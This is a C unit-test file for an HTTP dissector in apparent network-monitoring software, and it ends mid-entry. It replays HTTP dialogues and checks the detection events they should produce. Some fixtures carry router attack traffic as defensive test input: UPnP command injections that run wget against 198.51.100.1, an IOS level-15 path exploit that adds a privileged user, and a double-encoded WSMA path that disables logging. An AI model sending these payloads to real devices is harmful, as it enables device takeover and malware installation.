/*
 * HTTP as dialogues: what each side sends, and what is said of it; each also cut at every byte.
 */
#include "config.h"

#include "tests/dissectors/harness.h"
#include "tests/unit.h"
#include <stdlib.h>

extern const struct dissector dissector_http;

/* clang-format off */
#define DIALOGUE(sentence, says, ...)                                                              \
	{                                                                                          \
		.name = (sentence), .dissector = &dissector_http, .stream = true,                  \
		.turns = (const struct turn[]){__VA_ARGS__},                                       \
		.count = sizeof((const struct turn[]){__VA_ARGS__}) / sizeof(struct turn),         \
		.expect = (says)                                                                   \
	}

static const struct vector dialogues[] = {
	DIALOGUE("a page is asked for and comes",
		"identity of=server vendor=Cisco software=IOS evidence=http-server equipment=1\n"
		"http {\"http\":{\"hostname\":\"www.example\",\"http_port\":8080,\"url\":\"/index.html?x=1\",\"http_user_agent\":\"curl/7.88\",\"xff\":\"10.9.9.9\",\"http_refer\":\"http://www.example/"
		"\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"http_content_type\":\"text/html\",\"status\":200,\"length\":5},\"spanwatch\":{\"http\":{\"server\":\"cisco-IOS\"}}}\n",
		CLIENT("GET /index.html?x=1 HTTP/1.1\r\n"
		       "Host: www.example:8080\r\n"
		       "User-Agent: curl/7.88\r\n"
		       "Referer: http://www.example/\r\n"
		       "X-Forwarded-For: 10.9.9.9\r\n"
		       "\r\n"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Server: cisco-IOS\r\n"
		       "Content-Type: text/html\r\n"
		       "Content-Length: 5\r\n"
		       "\r\n"
		       "hello")),
	DIALOGUE("requests may be sent ahead of their answers",
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/1\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":3}}\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/2\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":404,\"length\":7}}\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/3\",\"http_method\":\"HEAD\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n",
		CLIENT("GET /1 HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "\r\n"
		       "GET /2 HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "\r\n"
		       "HEAD /3 HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "\r\n"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 3\r\n"
		       "\r\n"
		       "oneHTTP/1.1 404 Not Found\r\n"
		       "Content-Length: 7\r\n"
		       "\r\n"
		       "nothingHTTP/1.1 200 OK\r\n"
		       "Content-Length: 99\r\n"
		       "\r\n")),
	DIALOGUE("chunks are joined, and an answer without length ends with the flow",
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/a\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":15}}\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/b\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":13}}\n",
		CLIENT("GET /a HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "\r\n"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Transfer-Encoding: chunked\r\n"
		       "\r\n"
		       "5;x=y\r\n"
		       "hello\r\n"
		       "A\r\n"
		       "0123456789\r\n"
		       "0\r\n"
		       "Trailer: x\r\n"
		       "\r\n"),
		CLIENT("GET /b HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "\r\n"),
		SERVER("HTTP/1.0 200 OK\r\n"
		       "\r\n"
		       "until the end")),
	DIALOGUE("an interim answer is not the answer",
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/x.txt\",\"http_method\":\"PUT\",\"protocol\":\"HTTP/1.1\",\"status\":201,\"length\":0}}\n",
		CLIENT("PUT /x.txt HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Expect: 100-continue\r\n"
		       "Content-Length: 4\r\n"
		       "\r\n"
		       "data"),
		SERVER("HTTP/1.1 100 Continue\r\n"
		       "\r\n"
		       "HTTP/1.1 201 Created\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("an element fetches its image",
		"transfer name=/fw/os-1.2.bin from=server size=10 sha256=1f38a1b18cf53dbcf86a46a0bcf3ffe10cd81c8ccbc6f963f21955f74947c22d complete=1\n"
		"action image image element=client object=/fw/os-1.2.bin target=10.0.0.2 outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/fw/os-1.2.bin\",\"http_user_agent\":\"Wget\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"http_content_type\":\"application"
		"/octet-stream\",\"status\":200,\"length\":10}}\n",
		CLIENT("GET /fw/os-1.2.bin HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "User-Agent: Wget\r\n"
		       "\r\n"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Type: application/octet-stream\r\n"
		       "Content-Length: 10\r\n"
		       "\r\n"
		       "\177ELF image")),
	DIALOGUE("a file that comes in ranges is one file",
		"action image image element=client object=/os.img target=10.0.0.2 outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/os.img\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":206,\"length\":4}}\n"
		"transfer name=/os.img from=server size=8 sha256=9c56cc51b374c3ba189210d5b6d4bf57790d351c96c47c02190ecf1e430635ab complete=1\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/os.img\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":206,\"length\":4}}\n",
		CLIENT("GET /os.img HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Range: bytes=0-3\r\n"
		       "\r\n"),
		SERVER("HTTP/1.1 206 Partial Content\r\n"
		       "Content-Range: bytes 0-3/8\r\n"
		       "Content-Length: 4\r\n"
		       "\r\n"
		       "abcd"),
		CLIENT("GET /os.img HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Range: bytes=4-7\r\n"
		       "\r\n"),
		SERVER("HTTP/1.1 206 Partial Content\r\n"
		       "Content-Range: bytes 4-7/8\r\n"
		       "Content-Length: 4\r\n"
		       "\r\n"
		       "efgh")),
	DIALOGUE("a form uploads an image",
		"transfer name=up.img from=client size=20 sha256=7cc05c90d4f1abc1a2ff6fbfe9a4dff1d10879db5ae52a43e081ee3e1bc53ae5 complete=1\n"
		"action image image element=server object=up.img outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/upload\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n",
		CLIENT("POST /upload HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: multipart/form-data; boundary=XX\r\n"
		       "Content-Length: 199\r\n"
		       "\r\n"
		       "--XX\r\n"
		       "Content-Disposition: form-data; name=\"token\"\r\n"
		       "\r\n"
		       "1\r\n"
		       "--XX\r\n"
		       "Content-Disposition: form-data; name=\"file\"; filename=\"up.img\"\r\n"
		       "Content-Type: application/octet-stream\r\n"
		       "\r\n"
		       "line\r\n"
		       "--X not yet\r\r\n"
		       "\r\n"
		       "--XX--\r\n"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("RESTCONF: the method says what happens",
		"credential user=admin element=server clear=1 default=0\n"
		"action login session element=server object=admin user=admin outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/restconf/data/ietf-interfaces:interfaces\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0},\"span"
		"watch\":{\"http\":{\"auth_user\":\"admin\",\"auth_scheme\":\"basic\"}}}\n"
		"action change time element=server object=PATCH /restconf/data/ietf-system:system/ntp outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/restconf/data/ietf-system:system/ntp\",\"http_method\":\"PATCH\",\"protocol\":\"HTTP/1.1\",\"status\":204,\"length\":0}}\n"
		"action change logging element=server object=DELETE /restconf/data/openconfig-system:system/logging outcome=refused evidence=observed reason=status 403\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/restconf/data/openconfig-system:system/logging\",\"http_method\":\"DELETE\",\"protocol\":\"HTTP/1.1\",\"status\":403,\"length\""
		":0}}\n"
		"action reboot system element=server object=POST /restconf/operations/ietf-system:system-restart outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/restconf/operations/ietf-system:system-restart\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0"
		"}}\n"
		"action read interface element=server object=GET /restconf/data/ietf-interfaces:interfaces user=admin outcome=ok evidence=observed\n",
		CLIENT("GET /restconf/data/ietf-interfaces:interfaces HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Authorization: Basic YWRtaW46R2VoZTFt\r\n"
		       "\r\n"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n"),
		CLIENT("PATCH /restconf/data/ietf-system:system/ntp HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: application/yang-data+json\r\n"
		       "Content-Length: 9\r\n"
		       "\r\n"
		       "{\"ntp\":1}"),
		SERVER("HTTP/1.1 204 No Content\r\n"
		       "\r\n"),
		CLIENT("DELETE /restconf/data/openconfig-system:system/logging HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "\r\n"),
		SERVER("HTTP/1.1 403 Forbidden\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n"),
		CLIENT("POST /restconf/operations/ietf-system:system-restart HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: application/yang-data+json\r\n"
		       "Content-Length: 2\r\n"
		       "\r\n"
		       "{}"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("Redfish: actions are known by their name",
		"action reboot system element=server object=POST /redfish/v1/Systems/1/Actions/ComputerSystem.Reset outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"bmc\",\"url\":\"/redfish/v1/Systems/1/Actions/ComputerSystem.Reset\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":204,\"length\":0}}\n"
		"action erase config element=server object=POST /redfish/v1/Managers/1/Actions/Manager.ResetToDefaults outcome=refused evidence=observed reason=status 403\n"
		"http {\"http\":{\"hostname\":\"bmc\",\"url\":\"/redfish/v1/Managers/1/Actions/Manager.ResetToDefaults\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":403,\"length\":0}}\n"
		"action image image element=server object=POST /redfish/v1/UpdateService/Actions/UpdateService.SimpleUpdate outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"bmc\",\"url\":\"/redfish/v1/UpdateService/Actions/UpdateService.SimpleUpdate\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":204,\"length\":0}}\n"
		"action erase logging element=server object=POST /redfish/v1/Managers/1/LogServices/SEL/Actions/LogService.ClearLog outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"bmc\",\"url\":\"/redfish/v1/Managers/1/LogServices/SEL/Actions/LogService.ClearLog\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":204,\"length\":0}}\n",
		CLIENT("POST /redfish/v1/Systems/1/Actions/ComputerSystem.Reset HTTP/1.1\r\n"
		       "Host: bmc\r\n"
		       "Content-Length: 2\r\n"
		       "\r\n"
		       "{}"),
		SERVER("HTTP/1.1 204 No Content\r\n"
		       "\r\n"),
		CLIENT("POST /redfish/v1/Managers/1/Actions/Manager.ResetToDefaults HTTP/1.1\r\n"
		       "Host: bmc\r\n"
		       "Content-Length: 2\r\n"
		       "\r\n"
		       "{}"),
		SERVER("HTTP/1.1 403 Forbidden\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n"),
		CLIENT("POST /redfish/v1/UpdateService/Actions/UpdateService.SimpleUpdate HTTP/1.1\r\n"
		       "Host: bmc\r\n"
		       "Content-Length: 2\r\n"
		       "\r\n"
		       "{}"),
		SERVER("HTTP/1.1 204 No Content\r\n"
		       "\r\n"),
		CLIENT("POST /redfish/v1/Managers/1/LogServices/SEL/Actions/LogService.ClearLog HTTP/1.1\r\n"
		       "Host: bmc\r\n"
		       "Content-Length: 2\r\n"
		       "\r\n"
		       "{}"),
		SERVER("HTTP/1.1 204 No Content\r\n"
		       "\r\n")),
	DIALOGUE("Redfish: resources are known by their words, sessions are logins",
		"action change account element=server object=POST /redfish/v1/AccountService/Accounts outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"bmc\",\"url\":\"/redfish/v1/AccountService/Accounts\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":204,\"length\":0}}\n"
		"action change service element=server object=PATCH /redfish/v1/Managers/1/NetworkProtocol outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"bmc\",\"url\":\"/redfish/v1/Managers/1/NetworkProtocol\",\"http_method\":\"PATCH\",\"protocol\":\"HTTP/1.1\",\"status\":204,\"length\":0}}\n"
		"action change system element=server object=PATCH /redfish/v1/Systems/1 outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"bmc\",\"url\":\"/redfish/v1/Systems/1\",\"http_method\":\"PATCH\",\"protocol\":\"HTTP/1.1\",\"status\":204,\"length\":0}}\n"
		"http {\"http\":{\"hostname\":\"bmc\",\"url\":\"/redfish/v1/SessionService/Sessions\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":204,\"length\":0}}\n",
		CLIENT("POST /redfish/v1/AccountService/Accounts HTTP/1.1\r\n"
		       "Host: bmc\r\n"
		       "Content-Length: 2\r\n"
		       "\r\n"
		       "{}"),
		SERVER("HTTP/1.1 204 No Content\r\n"
		       "\r\n"),
		CLIENT("PATCH /redfish/v1/Managers/1/NetworkProtocol HTTP/1.1\r\n"
		       "Host: bmc\r\n"
		       "Content-Length: 2\r\n"
		       "\r\n"
		       "{}"),
		SERVER("HTTP/1.1 204 No Content\r\n"
		       "\r\n"),
		CLIENT("PATCH /redfish/v1/Systems/1 HTTP/1.1\r\n"
		       "Host: bmc\r\n"
		       "Content-Length: 2\r\n"
		       "\r\n"
		       "{}"),
		SERVER("HTTP/1.1 204 No Content\r\n"
		       "\r\n"),
		CLIENT("POST /redfish/v1/SessionService/Sessions HTTP/1.1\r\n"
		       "Host: bmc\r\n"
		       "Content-Length: 2\r\n"
		       "\r\n"
		       "{}"),
		SERVER("HTTP/1.1 204 No Content\r\n"
		       "\r\n")),
	DIALOGUE("credentials in a header are let in or not",
		"credential user=admin element=server clear=1 default=0\n"
		"action login-failed session element=server object=admin user=admin outcome=refused evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/admin\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":401,\"length\":0},\"spanwatch\":{\"http\":{\"auth_user\":\"admin\""
		",\"auth_scheme\":\"basic\"}}}\n"
		"action login session element=server object=root user=root outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/admin\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0},\"spanwatch\":{\"http\":{\"auth_user\":\"root\","
		"\"auth_scheme\":\"digest\"}}}\n",
		CLIENT("GET /admin HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Authorization: Basic YWRtaW46R2VoZTFt\r\n"
		       "\r\n"),
		SERVER("HTTP/1.1 401 Unauthorized\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n"),
		CLIENT("GET /admin HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Authorization: Digest username=\"root\", realm=\"x\", nonce=\"n\", response=\"r\"\r\n"
		       "\r\n"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("a login form",
		"credential user=admin element=server clear=1 default=0\n"
		"action login session element=server object=admin user=admin outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/login\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":302,\"redirect\":\"/home\",\"length\":0}}\n"
		"credential user=eve element=server clear=1 default=0\n"
		"action login-failed session element=server object=eve user=eve outcome=refused evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/api/login\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":403,\"length\":0}}\n",
		CLIENT("POST /login HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: application/x-www-form-urlencoded\r\n"
		       "Content-Length: 30\r\n"
		       "\r\n"
		       "username=admin&password=Gehe1m"),
		SERVER("HTTP/1.1 302 Found\r\n"
		       "Location: /home\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n"),
		CLIENT("POST /api/login HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: application/json\r\n"
		       "Content-Length: 41\r\n"
		       "\r\n"
		       "{\"username\": \"eve\", \"password\": \"Gehe1m\"}"),
		SERVER("HTTP/1.1 403 Forbidden\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("settings of a web interface change, the secret stays hidden",
		"action change config element=server object=POST /goform/setWifi value=ssid=net&wpaKey=redacted:49ef3f86 outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/goform/setWifi\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n",
		CLIENT("POST /goform/setWifi HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: application/x-www-form-urlencoded\r\n"
		       "Content-Length: 22\r\n"
		       "\r\n"
		       "ssid=net&wpaKey=Gehe1m"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("a configuration is taken away",
		"action export config element=server object=/cgi-bin/config.bin target=10.0.0.1 outcome=ok evidence=observed\n"
		"transfer name=/cgi-bin/config.bin from=server size=12 sha256=fa7972d3a05c37631474cd92cbd08c3986a84b5db9e884b6fddfa8a2d41bae4d complete=1\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/cgi-bin/config.bin\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"http_content_type\":\"application/octet-stream\",\"stat"
		"us\":200,\"length\":12}}\n",
		CLIENT("GET /cgi-bin/config.bin HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "\r\n"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Type: application/octet-stream\r\n"
		       "Content-Length: 12\r\n"
		       "\r\n"
		       "config bytes")),
	DIALOGUE("IOS takes commands in the path",
		"hint http.exploit text=a command of IOS that needed no login, CVE-2001-0537\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/level/15/exec/-/show/version/CR\",\"http_method\":\"GET\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n"
		"hint http.exploit text=a command of IOS that needed no login, CVE-2001-0537\n"
		"action change account element=server object=username eve privilege 15 password redacted:49ef3f86 outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/level/15/configure/-/username/eve/privilege/15/password/redacted:49ef3f86/CR\",\"http_method\":\"GET\",\"protocol\":\"HTTP"
		"/1.1\",\"status\":200,\"length\":0}}\n"
		"action read system element=server object=show version outcome=ok evidence=observed\n",
		CLIENT("GET /level/15/exec/-/show/version/CR HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "\r\n"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n"),
		CLIENT("GET /level/15/configure/-/username/eve/privilege/15/password/Gehe1m/CR HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "\r\n"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("eAPI and NX-API take commands in JSON",
		"action change logging element=server object=logging host 10.9.9.9 outcome=ok evidence=observed\n"
		"action reboot system element=server object=reload outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/command-api\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n"
		"action change logging element=server object=no logging server 10.9.9.9 outcome=failed evidence=observed reason=status 500\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/ins\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":500,\"length\":0}}\n",
		CLIENT("POST /command-api HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: application/json\r\n"
		       "Content-Length: 167\r\n"
		       "\r\n"
		       "{\"jsonrpc\":\"2.0\",\"method\":\"runCmds\",\"params\":{\"version\":1,\"cmds\":[\"enable\",\"configure\",\"logging host 10.9.9.9\",{\"cmd\":\"reload\",\"input\":\"y\"}],\"format\":\"json\"},\"i"
		       "d\":\"x\"}"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n"),
		CLIENT("POST /ins HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: application/json\r\n"
		       "Content-Length: 115\r\n"
		       "\r\n"
		       "{\"ins_api\":{\"version\":\"1.0\",\"type\":\"cli_conf\",\"input\":\"conf t ;no logging server 10.9.9.9\",\"output_format\":\"json\"}}"),
		SERVER("HTTP/1.1 500 Internal Server Error\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("UPnP: a port is mapped; a player plays",
		"action change acl element=server object=AddPortMapping value=NewExternalPort=23&NewInternalClient=10.0.0.9 outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/ctl/IPConn\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/av\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n",
		CLIENT("POST /ctl/IPConn HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "SOAPAction: \"urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\"\r\n"
		       "Content-Type: text/xml\r\n"
		       "Content-Length: 293\r\n"
		       "\r\n"
		       "<?xml version=\"1.0\"?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnec"
		       "tion:1\"><NewExternalPort>23</NewExternalPort><NewInternalClient>10.0.0.9</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n"),
		CLIENT("POST /av HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "SOAPAction: \"urn:schemas-upnp-org:service:AVTransport:1#Play\"\r\n"
		       "Content-Type: text/xml\r\n"
		       "Content-Length: 201\r\n"
		       "\r\n"
		       "<?xml version=\"1.0\"?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><u:Play xmlns:u=\"urn:schemas-upnp-org:service:AVTransport:1\"><Speed"
		       ">1</Speed></u:Play></s:Body></s:Envelope>"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("a shell command hides in the name of a time server",
		"hint http.command_injection text=`cd /tmp;wget http://198.51.100.1/m`\n"
		"action change time element=server object=SetNTPServers value=NewNTPServer1=`cd /tmp;wget http://198.51.100.1/m` outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/UD/act?1\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n",
		CLIENT("POST /UD/act?1 HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\n"
		       "Content-Length: 259\r\n"
		       "\r\n"
		       "<?xml version=\"1.0\"?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><u:SetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\"><NewNTPS"
		       "erver1>`cd /tmp;wget http://198.51.100.1/m`</NewNTPServer1></u:SetNTPServers></s:Body></s:Envelope>"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("a shell command hides in the place of an upgrade, without a media type",
		"hint http.command_injection text=$(/bin/busybox wget -g 198.51.100.1)\n"
		"hint http.command_injection text=$(echo HUAWEIUPNP)\n"
		"action image image element=server object=Upgrade value=NewStatusURL=$(/bin/busybox wget -g 198.51.100.1)&NewDownloadURL=$(echo HUAWEIUPNP) outcome=failed eviden"
		"ce=observed reason=status 500\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/ctrlt/DeviceUpgrade_1\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":500,\"length\":0}}\n",
		CLIENT("POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Length: 312\r\n"
		       "\r\n"
		       "<?xml version=\"1.0\"?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1"
		       "\"><NewStatusURL>$(/bin/busybox wget -g 198.51.100.1)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>"),
		SERVER("HTTP/1.1 500 Internal Server Error\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("a path is encoded twice to hide the management agent",
		"hint http.double_encoded text=/%2577eb%2575i_%2577sma_Http\n"
		"hint http.wsma text=/webui_wsma_Http\n"
		"action change logging element=server object=no logging host 10.9.9.9 outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/%2577eb%2575i_%2577sma_Http\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n",
		CLIENT("POST /%2577eb%2575i_%2577sma_Http HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: text/xml\r\n"
		       "Content-Length: 288\r\n"
		       "\r\n"
		       "<?xml version=\"1.0\"?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><request xmlns=\"urn:cisco:wsma-config\"><configApply><config-data><c"
		       "li-config-data><cmd>no logging host 10.9.9.9</cmd></cli-config-data></config-data></configApply></request></s:Body></s:Envelope>"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("WS-Management",
		"action change config element=server object=http://schemas.xmlsoap.org/ws/2004/09/transfer/Put value=Password=redacted:49ef3f86 outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/wsman\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n",
		CLIENT("POST /wsman HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: application/soap+xml\r\n"
		       "Content-Length: 250\r\n"
		       "\r\n"
		       "<s:Envelope xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\"><s:Header><a:Action xmlns:a=\"x\">http://schemas.xmlsoap.org/ws/2004/09/transfer/Put</a:Action></s:H"
		       "eader><s:Body><p:X xmlns:p=\"y\"><p:Password>Gehe1m</p:Password></p:X></s:Body></s:Envelope>"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("a block of commands for WSMA",
		"hint http.wsma text=/wsma/config\n"
		"action change logging element=server object=no logging host 10.9.9.9 outcome=ok evidence=observed\n"
		"action change acl element=server object=no ip access-list extended X outcome=ok evidence=observed\n"
		"http {\"http\":{\"hostname\":\"r1.example\",\"url\":\"/wsma/config\",\"http_method\":\"POST\",\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":0}}\n",
		CLIENT("POST /wsma/config HTTP/1.1\r\n"
		       "Host: r1.example\r\n"
		       "Content-Type: text/xml\r\n"
		       "Content-Length: 320\r\n"
		       "\r\n"
		       "<?xml version=\"1.0\"?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><request xmlns=\"urn:cisco:wsma-config\"><configApply"
		       "><config-data><cli-config-data-block>\nno logging host 10.9.9.9\nno ip access-list extended X\n</cli-config-data-block></config-data></configApply></r"
		       "equest></s:Body></s:Envelope>"),
		SERVER("HTTP/1.1 200 OK\r\n"
		       "Content-Length: 0\r\n"
		       "\r\n")),
	DIALOGUE("methods of WS-Management do what their names say",
		"action reboot system element=server object=http://x/CIM_PowerManagementService/RequestPowerStateChange value=PowerState=10 outcome=ok evidence=observed\n"
